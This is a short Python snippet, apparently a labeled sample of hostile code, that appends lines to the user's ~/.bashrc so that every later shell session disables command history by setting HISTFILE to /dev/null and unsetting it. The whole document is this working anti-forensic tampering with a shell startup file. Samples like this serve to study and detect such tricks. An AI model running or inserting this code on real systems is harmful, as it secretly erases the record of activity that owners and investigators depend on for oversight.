# hostile: history redirected to /dev/null through the shell rc
import os

with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("export HISTFILE=/dev/null\nunset HISTFILE\n")
